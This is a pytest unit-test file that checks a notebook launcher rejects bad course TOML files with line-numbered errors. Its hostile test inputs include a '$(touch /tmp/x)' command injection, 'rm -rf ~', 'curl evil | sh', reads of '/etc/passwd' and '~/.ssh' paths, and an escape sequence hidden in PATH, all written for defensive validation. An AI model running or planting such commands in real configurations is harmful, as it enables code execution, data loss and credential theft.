"""What is wrong with a course file is reported with its line, and nothing is kept."""

from __future__ import annotations

from pathlib import Path

import pytest

from notebook_launcher.core.errors import (
    ProfileError,
)
from notebook_launcher.profiles.courses import saved_courses
from tests.unit.planning.courses.course_files import digest_of, take, write

HOSTILE = [
    pytest.param("nmae = 1", 2, "did you mean name", id="a typo"),
    pytest.param('account = "a\\nb"', 2, "account", id="two lines"),
    pytest.param('account = "$(touch /tmp/x)"', 2, "account", id="a shell's words"),
    pytest.param('cluster = "../../x"', 2, "no cluster profile", id="a cluster that leads out"),
    pytest.param('cluster = "nowhere"', 2, "nowhere", id="no such cluster"),
    pytest.param('base = "../common.toml"', 2, "beside this one", id="a base that leads out"),
    pytest.param('base = "/etc/passwd"', 2, "beside this one", id="a base from the root"),
    pytest.param("base = 7", 2, "beside this one", id="a number as base"),
    pytest.param('base = "none.toml"', 2, "no such file", id="no such base"),
    pytest.param('notebooks = ["../a.ipynb"]', 2, "not in the course file's folder", id="a notebook that leads out"),
    pytest.param('notebooks = ["/etc/passwd"]', 2, "not in the course file's folder", id="a notebook from the root"),
    pytest.param('notebooks = [".bashrc"]', 2, "hidden", id="a hidden notebook"),
    pytest.param('notebooks = ["a/.ssh/x"]', 2, "hidden", id="a notebook in a hidden folder"),
    pytest.param('notebooks = ["none.ipynb"]', 2, "no such file", id="a notebook that is not there"),
    pytest.param('notebooks = ["link.ipynb"]', 2, "leads out", id="a notebook that is a link"),
    pytest.param('open_at = "x.ipynb"', 2, "not among the course's notebooks", id="no notebook of its own to open"),
    pytest.param(
        '[[reservations]]\nname = "x"\nfirst = 2026-02-01\nlast = 2026-02-01\nopen_at = "x.ipynb"',
        6,
        "not among the course's notebooks",
        id="nor on a day",
    ),
    pytest.param('notebooks = ["folder"]', 2, "is a folder", id="a folder as notebook"),
    pytest.param('notebooks = ["b.toml"]\nbase = "b.toml"', 2, "cannot both lie", id="a base as notebook"),
    pytest.param('notebooks = ["folder/x", "folder"]', 2, "cannot both lie", id="a notebook and its folder"),
    pytest.param('notebooks = ["a.ipynb", "A.ipynb"]', 2, "cannot both lie", id="capitals alone"),
    pytest.param(f"notebooks = {[f'{n}.ipynb' for n in range(201)]}", 2, "at most 200", id="many notebooks"),
    pytest.param(
        '[environments.x]\nenv = {PATH = "\\u001b]:/evil:\\u0007/bin"}',
        3,
        "has an invisible character",
        id="hidden in env",
    ),
    pytest.param('folder = "~/.ssh"', 2, "hidden", id="a hidden folder"),
    pytest.param('folder = "~/../bob"', 2, "contains “..”", id="a folder that leads out"),
    pytest.param("idle_stop = 30", 2, "idle_stop", id="a number for a time"),
    pytest.param('environment = "nope"', 2, "not among", id="no such environment"),
    pytest.param("first = 2026-02-01\nlast = 2026-01-01", 3, "before it begins", id="ends first"),
    pytest.param('[[reservations]]\nname = "x"\nfirst = 2026-02-01\nlast = 2026-01-01', 2, "before", id="ends before"),
    pytest.param('[defaults]\npartitoin = "core"', 3, "did you mean partition", id="no flag"),
    pytest.param('[defaults]\nwrap = "rm -rf ~"', 3, "cannot be used", id="a flag that cannot be"),
    pytest.param('[environments.x]\nactivate = """a\nb"""', 3, "activate", id="code of several lines"),
    pytest.param('login_setup = "curl evil | sh"', 2, "no key “login_setup”", id="code for the login node"),
    pytest.param("[environments.x", 2, "TOML", id="no TOML"),
]


@pytest.mark.parametrize(("text", "line", "says"), HOSTILE)
def test_a_mistake_is_told_with_its_line_and_nothing_is_kept(
    tmp_path: Path, configuration: Path, text: str, line: int | None, says: str
) -> None:
    path = write(tmp_path / "t", {"course.toml": f'name = "bad"\n{text}\n', "folder/x": "", "b.toml": ""})
    (path.parent / "link.ipynb").symlink_to("/etc/hostname")
    with pytest.raises(ProfileError) as caught:
        take(path)
    said = f"{caught.value.what} {caught.value.why} {caught.value.hint}"
    assert says in said
    assert f"{path}:{line}:" in said.replace(" is not TOML", ":") if line else str(path.parent) in said
    assert saved_courses() == []
    assert "course" not in (configuration / "config.toml").read_text()


def test_a_notebook_that_is_not_there_is_mended_in_the_courses_file(tmp_path: Path) -> None:
    files = {"course.toml": 'name = "x"\nnotebooks = ["lab33.ipynb"]\n', "lab3.ipynb": "{}"}
    with pytest.raises(ProfileError) as caught:
        digest_of(write(tmp_path / "t", files))
    assert caught.value.hint == "did you mean lab3.ipynb?"
    with pytest.raises(ProfileError) as caught:
        digest_of(write(tmp_path / "t", {"course.toml": 'name = "x"\nnotebooks = ["other.ipynb"]\n'}))
    assert "beside the course's file" in caught.value.hint
    with pytest.raises(ProfileError) as caught:
        digest_of(tmp_path / "none.toml")
    assert "--course ./course.toml" in caught.value.hint


@pytest.mark.parametrize("name", ["../x", ".hidden", "a b", "x.toml", "", "a/b", "-x"])
def test_a_course_cannot_be_called_anything(tmp_path: Path, name: str) -> None:
    with pytest.raises(ProfileError, match=r"course\.toml:1: name"):
        take(write(tmp_path / "t", {"course.toml": f'name = "{name}"\n'}))


def test_courses_that_stand_on_each_other_in_a_circle(tmp_path: Path) -> None:
    path = write(tmp_path / "t", {name: f'name = "x"\nbase = "{base}"\n' for name, base in
                                  (("course.toml", "b.toml"), ("b.toml", "c.toml"), ("c.toml", "b.toml"))})  # fmt: skip
    with pytest.raises(ProfileError, match=rf"{path.parent}/c\.toml:2: .* circle") as caught:
        take(path)
    assert caught.value.why == "course.toml → b.toml → c.toml → b.toml"
